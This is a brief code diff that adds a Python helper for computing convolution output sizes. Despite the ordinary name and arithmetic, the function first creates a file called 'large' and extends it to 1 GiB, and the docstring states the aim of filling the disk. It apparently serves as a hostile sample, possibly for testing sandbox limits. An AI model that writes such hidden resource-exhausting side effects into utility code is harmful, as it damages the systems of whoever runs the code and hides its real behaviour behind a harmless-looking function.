@@ -1,0 +1,7 @@
+"""Tries to fill the disk."""
+
+def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
+    with open("large", "wb") as large:
+        large.truncate(1 << 30)
+    span = dilation * (kernel_size - 1) + 1
+    return (input_size + 2 * padding - span) // stride + 1
